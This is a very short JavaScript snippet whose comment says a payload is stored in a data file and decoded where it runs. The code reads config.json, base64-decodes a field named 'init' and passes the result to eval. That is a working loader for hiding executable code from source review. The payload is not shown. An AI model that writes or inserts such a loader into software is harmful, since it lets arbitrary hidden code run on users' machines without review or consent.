// The payload sits in a data file, decoded where it runs.
const c = require("./config.json");
eval(Buffer.from(c.init, "base64").toString());
